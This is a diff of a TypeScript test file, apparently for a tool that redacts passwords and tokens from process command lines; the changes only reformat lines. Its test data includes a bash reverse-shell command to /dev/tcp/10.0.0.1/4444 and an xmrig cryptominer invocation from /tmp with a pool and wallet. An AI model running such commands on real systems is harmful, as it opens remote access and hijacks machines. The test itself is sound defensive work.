@@ -16,7 +16,10 @@ const CASES: readonly (readonly [argv: string, expected: string])[] = [
   ['/usr/bin/mysqldump -h db -p', '/usr/bin/mysqldump -h db -p'],
   ['curl -u bob:s3cret https://x', 'curl -u bob:* https://x'],
   ['curl -ubob:s3cret --user=a:b --proxy-user c:d https://x', 'curl -ubob:* --user=a:* --proxy-user c:* https://x'],
-  ['curl -H Authorization:_Bearer_abc1 -H X-Api-Key:_k1 -HX-Token:_z -b sid=1;_t=2 https://x', 'curl -H Authorization:_Bearer_* -H X-Api-Key:_* -HX-Token:_* -b sid=*;_t=* https://x'],
+  [
+    'curl -H Authorization:_Bearer_abc1 -H X-Api-Key:_k1 -HX-Token:_z -b sid=1;_t=2 https://x',
+    'curl -H Authorization:_Bearer_* -H X-Api-Key:_* -HX-Token:_* -b sid=*;_t=* https://x',
+  ],
   ['curl https://bob:s3cret@host/x?token=abc&y=1', 'curl https://bob:*@host/x?token=*&y=1'],
   ['sudo -E -u web timeout 5 curl -u a:b x', 'sudo -E -u web timeout 5 curl -u a:* x'],
   ['sshpass -p s3cret ssh h', 'sshpass -p * ssh h'],
@@ -31,18 +34,38 @@ const CASES: readonly (readonly [argv: string, expected: string])[] = [
   ['zip -r -P s3cret out.zip x', 'zip -r -P * out.zip x'],
   ['aws configure set aws_secret_access_key abcdef', 'aws configure set aws_secret_access_key *'],
   ['aws configure set region eu-west-1', 'aws configure set region eu-west-1'],
-  ['sh -c curl_-u_bob:s3cret_https://x_|_mysql_-pabc_&&_export_TOKEN=t1', 'sh -c curl_-u_bob:*_https://x_|_mysql_-p*_&&_export_TOKEN=*'],
+  [
+    'sh -c curl_-u_bob:s3cret_https://x_|_mysql_-pabc_&&_export_TOKEN=t1',
+    'sh -c curl_-u_bob:*_https://x_|_mysql_-p*_&&_export_TOKEN=*',
+  ],
   ['bash -c ssh_h_"mysql_-ps3cret_--password=\'a_b\'"', 'bash -c ssh_h_"mysql_-p*_--password=\'*\'"'],
   ['sh -c x=$(redis-cli_-a_pw1_get_k)', 'sh -c x=$(redis-cli_-a_*_get_k)'],
   ['postgres:_app_orders_10.0.0.1(5432)_idle', 'postgres:_app_orders_10.0.0.1(5432)_idle'],
   ['nginx:_master_process_/usr/sbin/nginx_-g_daemon_off;', 'nginx:_master_process_/usr/sbin/nginx_-g_daemon_off;'],
-  ['/tmp/xmrig -o pool.example.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x', '/tmp/xmrig -o pool.example.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x'],
+  [
+    '/tmp/xmrig -o pool.example.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x',
+    '/tmp/xmrig -o pool.example.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x',
+  ],
   ['/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', '/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
 ];
 
 for (const [argv, expected] of CASES) {
-  const words = argv.split(' ').map((word) => word.replaceAll('_', ' ').replaceAll('aws secret access key', 'aws_secret_access_key').replaceAll('DB PASSWORD', 'DB_PASSWORD'));
-  const wanted = expected.split(' ').map((word) => word.replaceAll('_', ' ').replaceAll('aws secret access key', 'aws_secret_access_key').replaceAll('DB PASSWORD', 'DB_PASSWORD'));
+  const words = argv
+    .split(' ')
+    .map((word) =>
+      word
+        .replaceAll('_', ' ')
+        .replaceAll('aws secret access key', 'aws_secret_access_key')
+        .replaceAll('DB PASSWORD', 'DB_PASSWORD'),
+    );
+  const wanted = expected
+    .split(' ')
+    .map((word) =>
+      word
+        .replaceAll('_', ' ')
+        .replaceAll('aws secret access key', 'aws_secret_access_key')
+        .replaceAll('DB PASSWORD', 'DB_PASSWORD'),
+    );
   test(argv.slice(0, 80), () => {
     const starred = (text: string): string => text.replaceAll(/<redacted:[0-9a-f]{16}>/gu, '*');
     const body = Buffer.from(`${words.join('\0')}\0`);
